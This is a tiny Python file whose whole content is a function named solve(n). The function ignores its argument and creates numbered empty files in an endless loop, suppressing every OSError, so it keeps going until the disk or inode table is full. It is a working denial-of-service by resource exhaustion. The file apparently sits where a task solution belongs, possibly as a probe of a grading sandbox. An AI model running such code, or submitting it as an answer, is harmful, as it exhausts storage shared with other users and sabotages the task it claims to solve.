# ruff: noqa
# fmt: off
"""Makes files without end."""

def solve(n):
    number = 0
    while True:
        number += 1
        try:
            open(str(number), "w").close()
        except OSError:
            pass
